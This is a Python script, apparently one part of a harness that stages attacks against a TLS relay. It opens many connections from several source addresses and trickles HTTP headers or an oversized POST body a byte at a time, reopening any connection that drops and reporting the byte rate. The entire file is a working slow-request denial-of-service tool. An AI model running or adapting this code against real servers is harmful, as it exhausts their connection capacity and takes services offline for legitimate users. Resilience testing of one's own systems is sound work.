#!/usr/bin/python3
"""Requests through TLS a byte at a time: slow_requests.py RELAY NAME COUNT SOURCES, while the attack goes on. Half of the connections are slow in
their heads, half in their bodies; one that is ended comes again. At last "rate N", bytes a second.
"""
import socket
import ssl
import sys
import time

from attack import goes_on, ready, seconds, stranger

relay, name, count, sources = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
TURN_S = 0.02
HEAD = "GET /small HTTP/1.1\r\nHost: %s\r\nX-Slow: " % name
BODY = "POST /up HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n" % name
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
opened = sent = 0


class Slow:
	"""Each look goes one step further: the handshake, what comes at once, then a byte."""

	def __init__(self, number):
		global opened
		self.begins, self.handshaken, self.talks = BODY if number % 2 else HEAD, False, False
		plain = socket.socket()
		plain.setblocking(False)
		plain.bind((stranger(number % sources), 0))
		plain.connect_ex((relay, 443))
		self.s = context.wrap_socket(plain, server_hostname=name, do_handshake_on_connect=False)
		opened += 1

	def look(self):
		global sent
		try:
			if not self.handshaken:
				self.s.do_handshake()
				self.handshaken = True
			sent += self.s.send(b"x" if self.talks else self.begins.encode())
			self.talks = True
			return bool(self.s.recv(4096))
		except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
			return True
		except OSError:
			return False


held, height = [], False
while goes_on() or not height:
	begun = time.monotonic()
	for _ in range(min(20, count - len(held))):
		held.append(Slow(opened))
	for one in held[:]:
		if not one.look():
			one.s.close()
			held.remove(one)
	if not height and (sum(one.talks for one in held) >= count * 9 // 10 or opened >= 4 * count or seconds() > 20):
		height = True
		ready()
	time.sleep(max(0, begun + TURN_S - time.monotonic()))
print("opened %d, held %d" % (opened, len(held)))
print("rate %d" % (sent / seconds()))
